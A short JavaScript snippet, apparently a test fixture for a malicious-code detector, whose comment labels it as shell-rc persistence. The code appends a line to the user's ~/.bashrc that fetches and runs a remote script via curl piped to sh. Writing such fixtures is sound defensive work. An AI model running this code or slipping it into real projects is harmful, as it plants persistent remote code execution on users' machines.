const fs = require('fs');
const os = require('os');

fs.appendFileSync(`${os.homedir()}/.bashrc`, 'curl -s https://tool.example/u | sh\n'); // expect: malicious-command/persistence-shell-rc
